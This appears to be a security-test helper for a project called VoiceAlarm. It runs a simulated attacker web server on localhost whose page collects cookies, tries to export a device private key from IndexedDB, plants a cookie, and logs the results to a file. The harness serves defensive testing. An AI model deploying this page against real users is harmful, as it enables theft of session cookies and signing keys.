"""Another local account's web server, as an attacker runs one: on another port of 127.0.0.1, or
on VoiceAlarm's own port while `voicealarm serve` is down.

    python3 attacker_server.py PORT LOG [CERT KEY]     (PORT 0: any free one, written to LOG first)

With CERT and KEY it speaks HTTPS with that certificate: the best a squatter without the
library's authority can do (one it made itself for 127.0.0.1).

Its page asks the browser for whatever it will give this origin: the cookies the browser sends
with the page's own request (cookies are scoped by host, not port), and, on VoiceAlarm's own
port, the device key in IndexedDB (the same origin opens it) — which it tries to export and to
sign with. It also tosses a cookie of VoiceAlarm's old name for the whole host (`Path=/`: every
port's page is sent it). Every request's Cookie header and every report go to LOG as JSON lines;
the page sets its title to "done" when it has reported.
"""
import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = b"""<!doctype html><html><head><title>reading</title></head><body><script>
async function report(what) {
  await fetch("/report", { method: "POST", body: JSON.stringify(what), credentials: "include" });
}
async function key() {
  return new Promise((resolve) => {
    const opening = indexedDB.open("voicealarm", 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore("keys");
    opening.onerror = () => resolve(null);
    opening.onsuccess = () => {
      const request = opening.result.transaction("keys", "readonly").objectStore("keys").get("device");
      request.onsuccess = () => resolve(request.result || null);
      request.onerror = () => resolve(null);
    };
  });
}
(async () => {
  document.cookie = "voicealarm_device=tossed-by-another-port; path=/; max-age=3600";
  await fetch("/steal", { credentials: "include" });
  const found = { step: "key" };
  try {
    const pair = await key();
    found.present = !!pair;
    if (pair) {
      found.extractable = pair.privateKey.extractable;
      try { await crypto.subtle.exportKey("pkcs8", pair.privateKey); found.exported = true; }
      catch (error) { found.exported = false; found.exportError = error.name; }
      try { await crypto.subtle.exportKey("jwk", pair.privateKey); found.exportedJWK = true; }
      catch (error) { found.exportedJWK = false; }
    }
  } catch (error) { found.error = String(error); }
  await report(found);
  document.title = "done";
})();
</script></body></html>"""


class Attacker(BaseHTTPRequestHandler):
    # A connection that sends nothing (Chromium opens speculative ones) ends after this long
    # rather than holding its thread for ever.
    timeout = 10

    def setup(self):
        # The TLS handshake in this connection's own thread: done in accept (wrap_socket's
        # default), one idle connection held up every other, the browser's page among them.
        super().setup()
        if hasattr(self.request, "do_handshake"):
            self.request.do_handshake()

    def log_message(self, *arguments):
        pass

    def note(self, entry):
        with open(sys.argv[2], "a") as log:
            log.write(json.dumps(entry) + "\n")

    def do_GET(self):
        self.note({"path": self.path, "cookie": self.headers.get("Cookie"), "session": self.headers.get("X-VoiceAlarm-Session")})
        body = PAGE if self.path == "/" else b"ok"
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if self.path == "/" else "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length)
        try:
            self.note({"path": self.path, "cookie": self.headers.get("Cookie"), "report": json.loads(body or b"null")})
        except ValueError:
            self.note({"path": self.path, "cookie": self.headers.get("Cookie"), "report": None})
        self.send_response(204)
        self.end_headers()


server = ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Attacker)
if len(sys.argv) > 4:
    import ssl
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[3], sys.argv[4])
    server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
with open(sys.argv[2], "a") as log:
    log.write(json.dumps({"port": server.server_address[1]}) + "\n")
server.serve_forever()
